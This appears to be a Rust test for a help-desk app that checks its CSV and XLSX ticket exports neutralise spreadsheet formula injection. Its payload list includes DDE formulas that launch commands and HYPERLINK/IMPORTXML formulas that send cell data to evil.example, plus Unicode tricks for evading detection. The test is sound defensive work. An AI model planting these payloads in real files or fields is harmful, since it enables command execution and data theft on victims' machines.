//! What strangers write into tickets runs in no spreadsheet.

use super::{exports, texts};
use crate::http::access::office::uploads;
use crate::support::{Desk, Person};
use calamine::{Reader, Xlsx};
use serde_json::json;
use std::io::Cursor;

/// Formulas as people have tried them, and the ways around those who look for them.
const ATTACKS: [&str; 18] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    " =1+1",
    "\u{a0}=1+1",
    "\"=1+1\"",
    "\u{feff}=1+1",
    "\u{200f}=1+1",
    "\u{202e}=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "x;=1+1",
];

/// Whether a program that opens a csv file would take some of it for a formula.
fn runs(cell: &str) -> bool {
    let passed = |c: char| c.is_whitespace() || "\"`\u{feff}\u{200b}\u{200f}\u{202e}".contains(c);
    let formula = |part: &str| {
        let first = part.trim_start_matches(passed).chars().next();
        first.is_some_and(|c| "=+-@＝＋－＠".contains(c))
    };
    cell.starts_with(['\t', '\r', '\n']) || cell.split([';', '\t', '\r', '\n']).any(formula)
}

/// A ticket that attacks from everywhere.
async fn opens_attack(boss: &Person, attack: &str) {
    let file = uploads(boss, "formula.txt", attack).await;
    let mut ticket = json!({
        "subject": attack,
        "description": format!("{attack}\n{attack}\t{attack}"),
        "requester": {"name": attack},
        "fields": {"remark": attack},
    });
    if attack.chars().count() < 50 && !attack.contains(',') {
        ticket["tags"] = json!([attack]);
    }
    let ticket = boss.opens_with(&ticket).await;
    attaches(boss, &ticket, &file).await;
}

async fn attaches(boss: &Person, ticket: &str, file: &str) {
    let path = format!("{ticket}/attachments");
    let files = json!({"attachment_ids": [file]});
    boss.posts(&path, &files).await.ok();
}

#[tokio::test]
async fn no_cell_is_a_formula() {
    let desk = Desk::open().await;
    let boss = desk.administrator();
    let field = json!({"key": "remark", "name": "=1+1", "kind": {"type": "text"}});
    boss.posts("/fields", &field).await.ok();
    for attack in ATTACKS {
        assert!(runs(attack), "{attack:?} is none");
        opens_attack(&boss, attack).await;
    }
    let named = uploads(&boss, "%3D1%2B1", "x").await;
    let ticket = boss.opens("a file").await;
    attaches(&boss, &ticket, &named).await;

    let columns = "subject,description,requester,tags,attachments,fields.remark";
    let query = format!("columns={columns}&sort=created_at");
    let records = exports(&boss, &format!("csv&{query}")).await.records();
    assert_eq!(records.len(), ATTACKS.len() + 2);
    for cell in records.iter().flatten() {
        assert!(!runs(cell), "{cell:?}");
    }
    // what was written is still there to be read
    for (row, attack) in records[1..].iter().zip(ATTACKS) {
        let letters = |text: &str| text.replace('\'', "");
        assert_eq!(letters(&row[0]).trim(), letters(attack).trim());
    }

    let file = exports(&boss, &format!("xlsx&{query}")).await;
    let subjects = texts(&file.sheet(), 0);
    for (subject, attack) in subjects.iter().zip(ATTACKS) {
        assert_eq!(
            subject.trim(),
            attack.trim(),
            "texts are texts there, and need no apostrophe"
        );
    }
    let mut book = Xlsx::new(Cursor::new(&file.bytes)).unwrap();
    let formulas = book.worksheet_formula("Tickets").unwrap();
    assert!(
        formulas.cells().all(|(_, _, formula)| formula.is_empty()),
        "{formulas:?}"
    );
}
